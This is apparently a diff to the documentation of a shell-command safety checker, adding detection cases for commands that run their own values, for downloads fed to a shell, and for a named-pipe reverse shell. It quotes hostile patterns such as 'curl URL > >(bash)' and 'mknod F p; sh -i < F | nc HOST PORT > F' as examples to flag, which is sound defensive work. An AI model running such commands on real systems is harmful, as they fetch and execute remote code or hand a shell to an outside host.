@@ -59,11 +59,18 @@ whose value is a command (``core.sshCommand``, ``core.pager``, ``core.editor``,
 set on the command or earlier in the line), and ``>(sh)`` process substitutions a
 command writes into (``echo ... > >(sh)``, ``... | tee >(bash)``); a download written
 into one (``curl URL > >(bash)``, ``wget -O- URL | tee >(sh)``) is ``rce``, as a pipe.
-``sh -c SCRIPT NAME ARGS`` gives the script its positional parameters.
+``sh -c SCRIPT NAME ARGS`` gives the script its positional parameters.  ``zip -TT``/
+``--unzip-command``, ``man -P``/``-H`` and ``more +!`` run their value; the commands
+``awk``, ``sed`` and ``make`` run in their own syntax are judged too (:mod:`.languages`).
+A download run by a text-mode browser (``lynx -source``, ``w3m -dump_source``) or written
+through ``curl -o >(sh)`` is ``rce``; a shell reading a named pipe that a network tool
+in its pipeline writes (``mknod F p; sh -i < F | nc HOST PORT > F``) is
+``reverse-shell``.
 
 The family is a folder: :mod:`.code` (``rce``, ``dynamic-code`` and the reverse-shell
 pipelines: program text a shell or an interpreter runs, downloads, inline programs,
-``>(sh)`` sinks, crontab text), :mod:`.fork_bomb`, :mod:`.network` (``nc``, ``socat``),
+``>(sh)`` sinks, crontab text), :mod:`.languages` (``awk``, ``sed``, ``make``),
+:mod:`.fork_bomb`, :mod:`.network` (``nc``, ``socat``),
 :mod:`.runners` (commands that run a command or a shell string: ``su``, ``ssh``,
 ``watch``, ``tmux``, ``screen``, ``parallel``...) and :mod:`.command_options` (options,
 settings and variables whose value is a command: ``rsync -e``, ``tar
